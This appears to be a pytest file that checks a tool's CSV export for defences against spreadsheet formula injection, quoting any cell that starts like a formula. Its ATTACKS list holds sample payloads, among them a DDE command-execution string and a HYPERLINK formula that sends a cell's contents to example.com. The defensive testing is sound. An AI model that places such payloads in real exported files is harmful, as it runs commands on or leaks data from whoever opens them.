"""Lists as CSV: every cell a spreadsheet could take for a formula is neutralised (OWASP)."""

import csv
import io

import pytest

from proactive.output import Format, render, spreadsheet_safe, write_csv

ATTACKS = [
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(1)",
    '=HYPERLINK("http://example.com/?leak="&A1,"click")',
    "\t=1+1",
    "\r=1+1",
]


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_cell_starting_like_a_formula_is_quoted(attack: str) -> None:
    text = render([{"name": attack, "n": 1}], ["name", "n"], Format.csv)
    assert cells(text)[1] == ["'" + attack, "1"]


def test_a_leading_tab_stays_behind_the_quote() -> None:
    (row,) = cells(render([{"name": "\t=1+1"}], ["name"], Format.csv))[1:]
    assert row == ["'\t=1+1"]


def test_numbers_keep_their_sign_and_harmless_text_is_unchanged() -> None:
    records = [{"a": -3, "b": -1.5, "c": "王芳", "d": "滨江区=长河", "e": None, "f": "'x"}]
    assert cells(render(records, list("abcdef"), Format.csv))[1] == [
        "-3",
        "-1.5",
        "王芳",
        "滨江区=长河",
        "",
        "'x",
    ]


def test_text_that_looks_like_a_negative_number_is_quoted_too() -> None:
    assert spreadsheet_safe("-1") == "'-1"
    assert spreadsheet_safe(-1) == -1


def test_files_are_written_by_the_same_rule() -> None:
    buffer = io.StringIO()
    write_csv(buffer, ["site_name", "days"], [("=1+1", "0.50")])
    assert buffer.getvalue() == "site_name,days\r\n'=1+1,0.50\r\n"


def test_json_and_table_are_left_as_they_are() -> None:
    assert '"=1+1"' in render([{"a": "=1+1"}], ["a"], Format.json)
    assert "=1+1" in render([{"a": "=1+1"}], ["a"], Format.table)
